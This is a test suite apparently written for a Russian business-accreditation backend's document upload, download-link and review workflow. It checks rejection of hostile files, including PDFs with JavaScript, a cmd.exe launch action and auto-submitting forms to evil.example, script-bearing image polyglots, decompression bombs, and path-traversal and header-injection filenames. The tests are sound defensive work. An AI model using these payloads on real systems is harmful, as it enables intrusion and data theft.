import { readdirSync, writeFileSync, mkdirSync, utimesSync } from "node:fs";
import { request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { deflateSync, inflateSync } from "node:zlib";
import { eq, sql } from "drizzle-orm";
import { v7 as uuidv7 } from "uuid";
import { beforeAll, describe, expect, test } from "vitest";
import { accreditation } from "#contract/accreditation.ts";
import { documentTypes } from "#contract/accreditation-actions.ts";
import { auth } from "#contract/auth.ts";
import { accreditationDocuments } from "#server/backend/accreditation/tables.ts";
import type { SignedIn } from "#server/backend/context.ts";
import { createApp } from "#server/backend/app.ts";
import { storeDemoFiles } from "#server/backend/db/demo/store-demo-files.ts";
import { checkUpload, cleanName } from "#server/backend/files/check-upload.ts";
import { foreignPage, readKind } from "#server/backend/files/file-kind.ts";
import { keepFile } from "#server/backend/files/keep-file.ts";
import { mostObjectStreams, mostUnpackedBytes, signsOfPdf } from "#server/backend/files/pdf-contents.ts";
import { type FilePurpose, filePurposes } from "#server/backend/files/quotas.ts";
import { readLink, signLink } from "#server/backend/files/file-link.ts";
import { openLocalFiles } from "#server/backend/files/local-files.ts";
import { sweepFiles } from "#server/backend/files/sweep-files.ts";
import { files } from "#server/backend/files/tables.ts";
import { password, useBackend } from "#tests/support/backend.ts";
import { testNow } from "#tests/support/clock.ts";
import { base64, joiningCompany, type JoiningCompany, pdf } from "#tests/support/joining-company.ts";

const backend = useBackend("demo");
const as = (email: string) => backend.as(email);
const representative = "rep@seller.example";
const empty = { charter: "not_loaded", ogrn_record: "not_loaded", inn_record: "not_loaded", director_order: "not_loaded" } as const;

/** A whole PNG of this size; its pixels are not what counts. */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", head),
    chunk("IDAT", deflateSync(Buffer.alloc(16))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A JPEG as far as its markers go. */
function jpeg(width = 100, height = 100): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0]), frame, Buffer.from([0xff, 0xda, 0, 2, 1, 2, 3, 0xff, 0xd9])]);
}

/** The text of a PDF by its fonts' tables back to Unicode, each font's reading after the other. */
function textOf(file: Buffer): string {
  const streams: string[] = [];
  for (let at = file.indexOf("\nstream\n"); at !== -1; at = file.indexOf("\nstream\n", at + 1)) {
    const end = file.indexOf("endstream", at);
    try {
      streams.push(inflateSync(file.subarray(at + 8, end)).toString("latin1"));
    } catch {
      // A stream that is not packed holds no text.
    }
  }
  const tables = streams.filter((stream) => stream.includes("begincmap")).map((stream) => (/\[(<[^\]]*)\]/.exec(stream)?.[1] ?? "").match(/[\da-f]+/g) ?? []);
  const lines = streams.flatMap((stream) => stream.match(/\[[^\]]*\] TJ/g) ?? []);
  const read = (table: readonly string[]) =>
    lines
      .map((line) =>
        (line.match(/<([\da-f]+)>/g) ?? [])
          .join("")
          .replace(/[<>]/g, "")
          .replace(/[\da-f]{4}/g, (glyph) => String.fromCharCode(Number.parseInt(table[Number.parseInt(glyph, 16)] ?? "20", 16))),
      )
      .join("\n");
  return tables.map(read).join("\n");
}

const contentPatterns = [
  { pattern: foreignPage, signs: ["<"] },
  { pattern: signsOfPdf, signs: ["/"] },
];
const small = { bytes: pdf, name: "x.pdf", contentType: "application/pdf" };

const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)]);

const storedFiles = () =>
  readdirSync(backend.filesFolder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => entry.name);
const fileRows = (companyUuid: string) => backend.db.select().from(files).where(eq(files.companyUuid, companyUuid));

async function upload({ director, accreditationUuid, companyUuid }: JoiningCompany, body: Record<string, unknown> = {}) {
  return (await as(director))(accreditation.uploadDocument, {
    body: { accreditationUuid, companyUuid, type: "charter", fileBody: base64(pdf), originalFilename: "Устав.pdf", ...body },
  });
}

const newcomer = () => joiningCompany(backend, { documents: empty });

describe("what is stored", () => {
  test("D04 D13 L068 L070 V40: a pdf, a jpg and a png are stored under generated names and come back as they were", async () => {
    for (const [name, bytes, contentType] of [
      ["Устав.pdf", pdf, "application/pdf"],
      ["скан.JPG", jpeg(), "image/jpeg"],
      ["x.jpeg", jpeg(), "image/jpeg"],
      ["x.png", png(10, 10), "image/png"],
    ] as const) {
      const made = await newcomer();
      const answer = await upload(made, { originalFilename: name, fileBody: base64(bytes) });
      expect(answer.body).toMatchObject({
        status: "processing",
        loadState: "loaded",
        originalFilename: name,
        size: bytes.length,
        allowedActions: ["delete", "download"],
      });
      const call = await as(made.director);
      const uuid = answer.body.documentUuid ?? "";
      const place = await call(accreditation.getDocument, { params: { uuid }, query: { accreditationUuid: made.accreditationUuid } });
      expect(place.body).toEqual({ url: `/v1/accreditation/accreditation/document/${uuid}/file`, name, contentType, size: bytes.length });
      const file = await call(accreditation.documentFile, { params: { uuid } });
      expect(Buffer.from(file.body as Buffer).equals(bytes)).toBe(true);
      expect(file.headers).toMatchObject({
        "content-type": contentType,
        "x-content-type-options": "nosniff",
        "content-security-policy": "default-src 'none'; sandbox",
        "cache-control": "private, no-store",
      });
      expect(file.headers["content-disposition"]).toContain(`filename*=UTF-8''${encodeURIComponent(name)}`);
      const [row] = await fileRows(made.companyUuid);
      expect(storedFiles()).toContain(row?.uuid);
      expect(storedFiles().join()).not.toContain("Устав");
    }
  });

  test("V41 trust S51: thirty megabytes pass, one byte more does not", async () => {
    const size = 30 * 1024 * 1024;
    const file = (bytes: number) => Buffer.concat([pdf.subarray(0, 9), Buffer.alloc(bytes - pdf.length - 1, 0x20), pdf.subarray(8)]);
    const made = await newcomer();
    const over = await upload(made, { fileBody: base64(file(size + 1)), originalFilename: "Большой.pdf" });
    expect([over.status, over.errors[0]?.code, over.errors[0]?.message]).toEqual([413, "PAYLOAD_TOO_LARGE:4000", expect.stringMatching(/Большой\.pdf.*30 МБ/)]);
    const fits = await upload(made, { fileBody: base64(file(size)) });
    expect([fits.status, fits.body.size]).toEqual([200, size]);
    const flood = await upload(made, { fileBody: "A".repeat(41 * 1024 * 1024) });
    expect(flood.status).toBe(413);
  }, 60_000);

  test("D07 D08 L069: a deleted or replaced document leaves neither row nor file", async () => {
    const made = await newcomer();
    const before = storedFiles().length;
    const first = await upload(made);
    const call = await as(made.director);
    const gone = await call(accreditation.deleteDocument, { params: { uuid: first.body.documentUuid ?? "" } });
    expect(gone.body).toMatchObject({ documentUuid: null, status: "not_loaded", loadState: "not_loaded", originalFilename: null, allowedActions: ["upload"] });
    expect([(await fileRows(made.companyUuid)).filter((row) => row.name === "Устав.pdf"), storedFiles().length]).toEqual([[], before]);
    expect((await call(accreditation.deleteDocument, { params: { uuid: first.body.documentUuid ?? "" } })).status).toBe(409);

    const checked = await joiningCompany(backend, { at: "coordination_contract" });
    const replaced = await upload(checked);
    expect(replaced.body.status).toBe("processing");
    const rows = await backend.db.select().from(accreditationDocuments).where(eq(accreditationDocuments.accreditationUuid, checked.accreditationUuid));
    const held = rows.flatMap((row) => row.fileUuid ?? []);
    expect((await fileRows(checked.companyUuid)).map((row) => row.uuid).sort()).toEqual(held.sort());
  });

  test("K49: two uploads of one document at once store one", async () => {
    const made = await newcomer();
    const answers = await Promise.all([upload(made), upload(made)]);
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 409]);
    expect(await fileRows(made.companyUuid)).toHaveLength(1);
    expect(answers.find((answer) => answer.status === 409)?.errors[0]?.details).toMatchObject({ document: { type: "charter", status: "processing" } });
  });

  test("trust S55: two uploads of a session at a time, and a company's room ends", async () => {
    const made = await newcomer();
    const many = await Promise.all(
      (["charter", "ogrn_record", "inn_record", "director_order", "power_of_attorney"] as const).map((type) =>
        upload(made, { type, fileBody: base64(Buffer.concat([pdf.subarray(0, 9), Buffer.alloc(2_000_000, 0x20), pdf.subarray(8)])) }),
      ),
    );
    for (const answer of many) expect([200, 429]).toContain(answer.status);
  });

  test.each([
    ["accreditation", "документов", 200],
    ["chat", "чатах", 1000],
    ["ticket", "обращениях", 500],
  ] as const)("trust S55: files for %s take nobody else's room, and are refused by their own name", async (purpose, word, most) => {
    const made = await newcomer();
    const context = { db: backend.db, files: openLocalFiles(backend.filesFolder), now: () => testNow, isGone: () => false } as SignedIn;
    const keep = (kind: FilePurpose) =>
      keepFile(context, { ...small, companyUuid: made.companyUuid, purpose: kind }, async () => ({ answer: "kept", replaces: null }));
    const full = Array.from({ length: most }, () => ({
      uuid: uuidv7(),
      companyUuid: made.companyUuid,
      purpose,
      name: "x.pdf",
      contentType: "application/pdf",
      size: 1,
    }));
    await backend.db.insert(files).values(full);
    await expect(keep(purpose)).rejects.toMatchObject({ message: expect.stringMatching(new RegExp(`Место .*${word}.* не больше ${most} файлов`)) });
    for (const other of filePurposes.filter((kind) => kind !== purpose)) expect(await keep(other), other).toBe("kept");
    expect((await upload(made)).status).toBe(purpose === "accreditation" ? 409 : 200);
  });

  test("trust S55: gigabytes are counted as files are", async () => {
    const made = await newcomer();
    await backend.db.insert(files).values({ ...small, uuid: uuidv7(), companyUuid: made.companyUuid, purpose: "accreditation", size: 2 * 1024 ** 3 });
    const refused = await upload(made);
    expect([refused.status, refused.errors[0]?.message]).toEqual([409, expect.stringContaining("2 ГБ")]);
  });
});

const pdfWith = (...parts: (string | Buffer)[]) => Buffer.concat([pdf.subarray(0, 9), ...parts.map((part) => Buffer.from(part)), pdf.subarray(9)]);
/** A list of objects, packed as office programs do. */
const objectStream = (objects: string, names = "/Filter /FlateDecode", packed = deflateSync(objects)) =>
  pdfWith(`5 0 obj<</Type /ObjStm /N 1 /First 4 ${names} /Length ${packed.length}>>stream\n`, packed, "\nendstream endobj\n");

const scripted: [what: string, bytes: Buffer][] = [
  ["with a script", pdfWith("2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n")],
  ["with a script whose name is spelled by codes", pdfWith("2 0 obj<</S /J#61va#53cript /JS 3 0 R>>endobj\n")],
  ["that starts a program", pdfWith("2 0 obj<</S /Launch /F (cmd.exe)>>endobj\n")],
  ["with a file inside", pdfWith("2 0 obj<</Type /EmbeddedFile /Length 0>>stream\n\nendstream endobj\n")],
  ["with a form that sends itself", pdfWith("2 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj\n")],
  ["with a form that has scripts of its own", pdfWith("2 0 obj<</AcroForm<</XFA [1 0 R]>>>>endobj\n")],
  ["that opens an address by itself", pdfWith("2 0 obj<</OpenAction <</S /URI /URI (https://evil.example)>>>>endobj\n")],
  ["with a script in the data of another part", pdfWith("2 0 obj<</Length 40>>stream\n9 0 obj<</S /JavaScript>>endobj endstream endobj\n")],
  ["with a script in a packed list", objectStream("2 0 <</S /JavaScript /JS (x)>>")],
  ["with a list packed in a way of its own", objectStream("2 0 <<>>", "/Filter [/ASCII85Decode /FlateDecode]")],
  ["with a list packed twice", objectStream("2 0 <<>>", "/Filter [/FlateDecode /FlateDecode]")],
  ["with a list that does not unpack", objectStream("", "/Filter /FlateDecode", Buffer.from("0123456789"))],
  ["with a list that unpacks to too much", objectStream(" ".repeat(mostUnpackedBytes + 1))],
  [
    "with too many lists",
    pdfWith(
      ..."x"
        .repeat(mostObjectStreams + 1)
        .split("")
        .map(() => "5 0 obj<</Type/ObjStm>>stream\n1 0 <<>>\nendstream endobj\n"),
    ),
  ],
];

test("trust S50: a document that opens at a page, with links and packed lists, is taken", () => {
  const plain = [
    pdfWith("2 0 obj<</OpenAction [3 0 R /XYZ null null 0]>>endobj\n"),
    pdfWith("2 0 obj<</OpenAction <</S /GoTo /D [3 0 R /Fit]>>>>endobj\n"),
    pdfWith("2 0 obj<</A <</Type /Action /S /URI /URI (https://gryada.example)>>>>endobj\n"),
    pdfWith("2 0 obj<</JavaScripts 1 /Launcher (x) /Length 3>>stream\n/XF\nendstream endobj\n"),
    objectStream("2 0 <</Type /Page>>"),
    objectStream("2 0 <</Type /Page>>", "", Buffer.from("2 0 <</Type /Page>>")),
  ];
  for (const [index, bytes] of plain.entries())
    expect(checkUpload({ fileBody: base64(bytes), originalFilename: "Устав.pdf" }).contentType, String(index)).toBe("application/pdf");
});

test("trust S50 S54: nothing that repeats in a pattern of contents reads past the sign that begins a match, so no bytes hold the check up", () => {
  for (const { pattern, signs } of contentPatterns) {
    const repeats = pattern.source.match(/(?:\[(?:\\.|[^\]])*\]|\\.|[^\\)])(?:[*+]|\{\d+,\d*\})/g) ?? [];
    for (const repeat of repeats) {
      const [, one = "", times = ""] = /^(.*?)([*+]|\{\d+,\d*\})$/s.exec(repeat) ?? [];
      expect(times, repeat).toMatch(/^\{\d,\d{1,3}\}$/);
      for (const sign of signs) expect(new RegExp(`^${one}$`, pattern.flags).test(sign), `${repeat} reads past ${sign}`).toBe(false);
    }
  }
});

describe("what is refused, with the file's name", () => {
  const html = Buffer.from("<html><script>alert(1)</script></html>");
  const cases: [title: string, name: string, bytes: Buffer, status: number][] = [
    ["an empty file", "Устав.pdf", Buffer.alloc(0), 400],
    ["a page under the name of a document", "Устав.pdf", html, 415],
    ["a document under the name of a picture", "Устав.png", pdf, 415],
    ["a picture under the name of a document", "Устав.pdf", png(10, 10), 415],
    ["a format that is not taken", "Устав.docx", pdf, 415],
    ["a drawing", "Устав.svg", Buffer.from("<svg xmlns='x'/>"), 415],
    ["a name without an ending", "Устав", pdf, 415],
    ["a double ending", "Устав.html.pdf", pdf, 415],
    ["a program behind a document's ending", "Устав.pdf.exe", pdf, 415],
    ["a document with a page's head", "Устав.pdf", Buffer.concat([pdf.subarray(0, 9), html, pdf.subarray(9)]), 415],
    ["a document before which a page stands", "Устав.pdf", Buffer.concat([html, pdf]), 415],
    ["a document that ends as an archive", "Устав.pdf", Buffer.concat([pdf, zip]), 415],
    ...scripted.map(([what, bytes]) => [`a document ${what}`, "Устав.pdf", bytes, 415] as [string, string, Buffer, number]),
    ["a cut document", "Устав.pdf", pdf.subarray(0, 20), 415],
    ["a picture with something behind it", "Устав.png", Buffer.concat([png(10, 10), Buffer.from("tail")]), 415],
    ["a picture that ends as an archive", "Устав.jpg", Buffer.concat([jpeg(), zip]), 415],
    [
      "a picture with a page inside",
      "Устав.jpg",
      Buffer.concat([jpeg().subarray(0, -2), Buffer.from("<script >alert(1)</script>"), Buffer.from([0xff, 0xd9])]),
      415,
    ],
    ["a picture with a document inside", "Устав.jpg", Buffer.concat([jpeg(), pdf]), 415],
    ["a cut picture", "Устав.png", png(10, 10).subarray(0, 40), 415],
    ["a bomb", "Устав.png", png(20_000, 20_000), 400],
    ["a bomb of the other kind", "Устав.jpg", jpeg(20_000, 20_000), 400],
  ];

  let made: JoiningCompany;
  beforeAll(async () => {
    made = await newcomer();
  });

  test.each(cases)("trust S50 S54: %s", async (_, originalFilename, bytes, status) => {
    const before = storedFiles().length;
    const answer = await upload(made, { originalFilename, fileBody: base64(bytes) });
    expect([answer.status, answer.errors[0]?.code.split(":")[1]]).toEqual([status, "4000"]);
    expect(answer.errors[0]?.message).toContain(originalFilename);
    expect(answer.errors[0]?.details).toEqual({ fileBody: [answer.errors[0]?.message] });
    expect(storedFiles()).toHaveLength(before);
  });

  test("trust S50: what was declared must fit too", async () => {
    for (const body of [{ contentType: "text/html" }, { contentType: "image/png" }, { fileBody: `data:image/png;base64,${base64(pdf)}` }])
      expect((await upload(made, body)).status).toBe(415);
    const other = await newcomer();
    expect((await upload(other, { fileBody: `data:application/pdf;base64,${base64(pdf)}`, contentType: "application/pdf" })).status).toBe(200);
  });

  test("S36: no value of any field breaks the call", async () => {
    const bad = [null, 1, true, [], {}, "", "   ", "не base64", "====", "a\u0000b", "\ud800", "__proto__", "x".repeat(300), -1, 2 ** 53];
    for (const field of ["accreditationUuid", "companyUuid", "type", "fileBody", "originalFilename"]) {
      for (const value of bad) {
        const answer = await upload(made, { [field]: value });
        expect([400, 404, 415], `${field} ${JSON.stringify(value)?.slice(0, 40)}`).toContain(answer.status);
        expect(answer.errors[0]?.message).toMatch(/[а-яё]/i);
      }
    }
    expect((await upload(made, { type: "passport" })).status).toBe(400);
    expect((await upload(made, { type: "contract_unsigned_legal" })).status).toBe(400);
    expect((await fileRows(made.companyUuid)).map((row) => row.name)).toEqual([]);
  });

  test("trust S52: names are cleaned of paths, line breaks and marks that turn text around", () => {
    const names = ["../../etc/passwd.pdf", "C:\\secret\\x.pdf", "/abs/x.pdf", "a\r\nSet-Cookie: x.pdf", "\u202Efdp.exe.pdf", "  Устав .pdf ", "..", ""].map(
      cleanName,
    );
    expect(names).toEqual(["passwd.pdf", "x.pdf", "x.pdf", "aSet-Cookie: x.pdf", "fdp.exe.pdf", "Устав .pdf", "..", "без имени"]);
    expect(() => checkUpload({ fileBody: base64(pdf), originalFilename: "\u202Efdp.exe.pdf" })).toThrow();
    expect(readKind(Buffer.from("GIF89a/*<script>*/"))).toBeNull();
  });
});

describe("links", () => {
  const stored = async () => {
    const made = await newcomer();
    const { body } = await upload(made);
    return { ...made, uuid: body.documentUuid ?? "" };
  };
  const open = (url: string) => backend.app.inject({ method: "GET", url });

  test("L071 trust S53: an external link opens its one file without a token for five minutes", async () => {
    const { director, uuid } = await stored();
    const { body } = await (await as(director))(accreditation.externalDocument, { params: { uuid } });
    expect([body.name, body.expiresAt]).toEqual(["Устав.pdf", new Date(testNow.getTime() + 300_000).toISOString()]);
    const file = await open(body.url);
    expect([file.statusCode, file.rawPayload.equals(pdf)]).toEqual([200, true]);
    expect(file.headers).toMatchObject({ "x-content-type-options": "nosniff", "content-security-policy": "default-src 'none'; sandbox" });
    expect(file.headers["content-disposition"]).toMatch(/^attachment; /);
    backend.setNow(new Date(testNow.getTime() + 299_000));
    expect((await open(body.url)).statusCode).toBe(200);
    backend.setNow(new Date(testNow.getTime() + 300_000));
    const late = await open(body.url);
    backend.setNow(testNow);
    expect(late.statusCode).toBe(404);
    const [, link = ""] = body.url.split("/v1/files/");
    const [file1 = "", expires = "", signature = ""] = link.split(".");
    const other = await stored();
    const [row] = await fileRows(other.companyUuid);
    for (const forged of [
      `${row?.uuid}.${expires}.${signature}`,
      `${file1}.${(Number.parseInt(expires, 36) + 1000).toString(36)}.${signature}`,
      `${file1}.${expires}.${signature.startsWith("A") ? "B" : "A"}${signature.slice(1)}`,
      link.slice(1),
      "x",
      "..",
      `${link}/..`,
    ]) {
      expect((await open(`/v1/files/${encodeURIComponent(forged)}`)).statusCode, forged).toBe(404);
    }
  });

  test("trust S53: a link signed for longer, or by somebody else, opens nothing", () => {
    const settings = { tokenSecrets: ["a secret of more than thirty-two bytes"], demo: true } as Parameters<typeof signLink>[0];
    const fileUuid = uuidv7();
    const year = signLink(settings, { fileUuid, expiresAt: new Date(testNow.getTime() + 365 * 86_400_000) });
    expect(readLink(settings, year, testNow)).toBeNull();
    const good = signLink(settings, { fileUuid, expiresAt: new Date(testNow.getTime() + 60_000) });
    expect(readLink(settings, good, testNow)).toBe(fileUuid);
    expect(readLink({ ...settings, tokenSecrets: ["another secret of more than thirty-two bytes"] }, good, testNow)).toBeNull();
  });

  test("D13 trust S53: the direct link is of the signed-in people who see the accreditation", async () => {
    const { uuid, accreditationUuid } = await stored();
    const url = `/v1/accreditation/accreditation/document/${uuid}/file`;
    expect((await open(url)).statusCode).toBe(401);
    const stranger = await as("director@alfa.example");
    const unknown = await stranger(accreditation.documentFile, { params: { uuid: uuidv7() } });
    const foreign = await stranger(accreditation.documentFile, { params: { uuid } });
    expect([foreign.status, foreign.errors]).toEqual([404, unknown.errors]);
    expect((await (await as("regional@seller.example"))(accreditation.documentFile, { params: { uuid } })).status).toBe(200);
    expect((await (await as("regional@seller.example"))(accreditation.getDocument, { params: { uuid }, query: { accreditationUuid: uuidv7() } })).status).toBe(
      404,
    );
    expect((await (await as("regional@seller.example"))(accreditation.getDocument, { params: { uuid }, query: { accreditationUuid } })).status).toBe(200);
  });
});

describe("the check", () => {
  test("D05 D06 L073 K34: the representative accepts or declines with a reason, the director replaces, the contract waits for all", async () => {
    const made = await joiningCompany(backend, { at: "coordination_contract", documents: { charter: "processing", inn_record: "processing" } });
    const rep = await as(representative);
    const card = async () => (await rep(accreditation.getByCompany, { params: { companyUuid: made.companyUuid } })).body;
    const charter = async () => (await card()).documents.find((document) => document.type === "charter");
    const uuid = (await charter())?.documentUuid ?? "";
    expect((await charter())?.allowedActions).toEqual(["accept", "decline", "download"]);
    expect((await rep(accreditation.setDocumentStatus, { params: { uuid }, body: { status: "declined" } })).errors[0]?.details).toEqual({
      comment: ["Введите комментарий"],
    });
    expect((await rep(accreditation.setDocumentStatus, { params: { uuid }, body: { status: "declined", comment: "Не видна печать" } })).body).toMatchObject({
      status: "declined",
      comment: "Не видна печать",
    });
    expect((await card()).currentProcess).toMatchObject({ status: "in_work" });
    expect((await rep(accreditation.setDocumentStatus, { params: { uuid }, body: { status: "accepted" } })).status).toBe(409);
    expect((await card()).turn).toBe("buyer_company_director");
    const contract = await rep(accreditation.createContract, { body: { accreditationUuid: made.accreditationUuid } });
    expect([contract.status, Object.keys(contract.errors[0]?.details ?? {}).sort()]).toEqual([409, ["documents.charter", "documents.inn_record"]]);
    const replaced = await upload(made, { originalFilename: "Новый устав.pdf" });
    expect(replaced.body).toMatchObject({ status: "processing", comment: null, originalFilename: "Новый устав.pdf" });
    for (const document of (await card()).documents.filter((each) => each.status === "processing")) {
      await rep(accreditation.setDocumentStatus, { params: { uuid: document.documentUuid ?? "" }, body: { status: "accepted" } });
    }
    const told = await backend.db.execute<{ type: string; message: string }>(
      sql`select type, message from notifications where payload->>'accreditation_uuid' = ${made.accreditationUuid} order by created_at, type`,
    );
    expect(told.rows.map((row) => row.type).sort()).toEqual(["5", "5", "6", "7"]);
    expect(told.rows.find((row) => row.type === "6")?.message).toContain("Не видна печать");
    expect((await rep(accreditation.createContract, { body: { accreditationUuid: made.accreditationUuid } })).status).toBe(200);
  });

  test.each(["legal", "individual"] as const)(
    "D09 D11 D14 L074: the contract of the %s form is a real PDF with the company's data in it",
    async (legalForm) => {
      const made = await joiningCompany(backend, { at: "coordination_contract", legalForm });
      const rep = await as(representative);
      const { body } = await rep(accreditation.createContract, { body: { accreditationUuid: made.accreditationUuid } });
      expect(body.contracts.map(({ type, status }) => [type, status])).toEqual([
        [`contract_unsigned_${legalForm}`, "waiting"],
        [`contract_signed_${legalForm}`, "not_loaded"],
      ]);
      const buyer = await as(made.director);
      const file = await buyer(accreditation.documentFile, { params: { uuid: body.contracts[0]?.documentUuid ?? "" } });
      const bytes = Buffer.from(file.body as Buffer);
      expect(readKind(bytes)?.contentType).toBe("application/pdf");
      expect(bytes.length).toBeGreaterThan(10_000);
      const number = Buffer.from(legalForm === "legal" ? "7199123453/2026" : "779941073314/2026", "utf16le").swap16();
      expect(bytes.includes(number)).toBe(true);
      const text = textOf(bytes);
      const form = legalForm === "legal" ? ["ОГРН: 1147199123455", "КПП: 719901001"] : ["ОГРНИП: 326779904107335"];
      for (const part of [
        "Компания ",
        "Соколова Анна",
        "Расчётный счёт: 40702810500000120045",
        "ООО «Группа компаний „Гряда“»",
        "Тула, ул. Октябрьская, 48",
        ...form,
      ])
        expect(text).toContain(part);
      // The name stands in the nominative: no other case can be made of it.
      const words = text.replace(/\s+/g, "");
      expect(words).not.toContain("влице");
      expect(words).toContain("директор—ПолозовМихаилЕвгеньевич,действуетнаоснованииустава");
      expect(words).toContain(legalForm === "legal" ? "директор—СоколоваАнна,действует" : "действуетнаоснованиизаписиЕГРИП№326779904107335");
      expect((await rep(accreditation.createContract, { body: { accreditationUuid: made.accreditationUuid } })).errors[0]?.code).toBe(
        "PROCESS_NOT_CURRENT:4009",
      );
    },
  );

  test("D12: the places are those of the legal form, the power of attorney is not required", async () => {
    for (const legalForm of ["legal", "individual"] as const) {
      const made = await joiningCompany(backend, { legalForm });
      const { body } = await (await as(made.director))(accreditation.getByCompany, { params: { companyUuid: made.companyUuid } });
      expect(body.documents.map((document) => document.type)).toEqual([...documentTypes[legalForm]]);
      expect(body.documents.filter((document) => !document.required).map((document) => document.type)).toEqual(
        legalForm === "legal" ? ["power_of_attorney"] : [],
      );
    }
  });

  test("D06 K37 D10: a declined signed copy stops the sending until another is loaded; then both are signed", async () => {
    const made = await joiningCompany(backend, { at: "signing_contract" });
    const rep = await as(representative);
    const send = () => rep(accreditation.finishSigning, { params: { id: made.accreditationUuid } });
    const signed = (await rep(accreditation.getByCompany, { params: { companyUuid: made.companyUuid } })).body.contracts[1];
    await rep(accreditation.setDocumentStatus, { params: { uuid: signed?.documentUuid ?? "" }, body: { status: "declined", comment: "Нет подписи" } });
    const refused = await send();
    expect([refused.status, refused.errors[0]?.details]).toEqual([409, { contracts: ["Подписанный договор ещё не загружен"] }]);
    expect((await upload(made, { type: "contract_signed_legal" })).body.status).toBe("processing");
    expect((await send()).body.contracts.map((contract) => contract.status)).toEqual(["signed", "signed"]);
  });
});

describe("cut and left behind", () => {
  test("trust S56: a hundred uploads that are cut leave no file and no row", async () => {
    const made = await newcomer();
    const server = await createApp({
      pool: backend.pool,
      files: openLocalFiles(backend.filesFolder),
      settings: { tokenSecrets: ["tests-only-secret-of-at-least-32-bytes"], demo: true } as never,
      now: () => testNow,
    });
    await server.listen({ host: "127.0.0.1", port: 0 });
    const { port } = server.server.address() as AddressInfo;
    const signedIn = await server.inject({ method: "POST", url: auth.login.path, payload: { login: made.director, password, method: "email" } });
    const headers = { authorization: `Bearer ${signedIn.json().access_token}`, "content-type": "application/json" };
    const body = JSON.stringify({
      accreditationUuid: made.accreditationUuid,
      companyUuid: made.companyUuid,
      type: "charter",
      originalFilename: "x.pdf",
      fileBody: base64(Buffer.concat([pdf.subarray(0, 9), Buffer.alloc(300_000, 0x20), pdf.subarray(8)])),
    });
    const before = storedFiles().length;
    const cut = (at: number) =>
      new Promise<void>((resolve) => {
        const request = httpRequest({
          port,
          method: "POST",
          path: accreditation.uploadDocument.path,
          headers: { ...headers, "content-length": Buffer.byteLength(body) },
        });
        request.on("error", () => resolve());
        request.on("response", (response) => response.resume().on("close", resolve));
        request.write(body.slice(0, at), () => setTimeout(() => request.destroy(), 2));
        request.on("close", resolve);
      });
    for (let index = 0; index < 100; index += 1) await cut(Math.floor((body.length - 1) * (index / 100)) + 1);
    await server.close();
    expect([storedFiles().length, (await fileRows(made.companyUuid)).length]).toEqual([before, 0]);
    expect((await upload(made)).status).toBe(200);
  }, 60_000);

  test("trust S56: the sweeper takes away what no row names and leaves the rest", async () => {
    const store = openLocalFiles(backend.filesFolder);
    const made = await newcomer();
    await upload(made);
    const [kept] = await fileRows(made.companyUuid);
    const orphan = await store.stage(pdf);
    const published = await store.stage(pdf);
    await published.publish();
    const young = await store.stage(pdf);
    const old = new Date(Date.now() - 2 * 3_600_000);
    for (const name of readdirSync(backend.filesFolder, { recursive: true, encoding: "utf8" }))
      if (![young.uuid].some((uuid) => name.endsWith(uuid))) utimesSync(join(backend.filesFolder, name), old, old);
    mkdirSync(join(backend.filesFolder, "notes"), { recursive: true });
    writeFileSync(join(backend.filesFolder, "notes", "readme.txt"), "not ours");
    expect(await sweepFiles(backend.db, store, new Date())).toBe(2);
    expect(storedFiles()).toEqual(expect.arrayContaining([kept?.uuid, young.uuid, "readme.txt"]));
    expect(storedFiles()).not.toContain(orphan.uuid);
    expect(storedFiles()).not.toContain(published.uuid);
    await young.discard();
  });

  test("trust S56: a file that was committed and not yet renamed is read all the same", async () => {
    const store = openLocalFiles(backend.filesFolder);
    const staged = await store.stage(pdf);
    expect((await store.read(staged.uuid))?.equals(pdf)).toBe(true);
    expect(await store.read("../../etc/passwd")).toBeNull();
    await staged.discard();
    expect(await store.read(staged.uuid)).toBeNull();
  });

  test("the demo's documents open: samples for scans, drawn contracts for contracts", async () => {
    await storeDemoFiles(backend.db, openLocalFiles(backend.filesFolder));
    const rep = await as(representative);
    const { accreditations } = (await rep(accreditation.listForSalesRepresentative)).body;
    const documents = accreditations.filter((row) => row.companyName === "ООО «Лукошко»").flatMap((row) => [...row.documents, ...row.contracts]);
    expect(documents.length).toBeGreaterThan(5);
    for (const document of documents) {
      const file = await rep(accreditation.documentFile, { params: { uuid: document.documentUuid ?? "" } });
      expect([file.status, (file.body as Buffer).length], document.type).toEqual([200, document.size]);
      expect(readKind(Buffer.from(file.body as Buffer))?.contentType, document.type).toBe(file.headers["content-type"]);
    }
  }, 60_000);
});
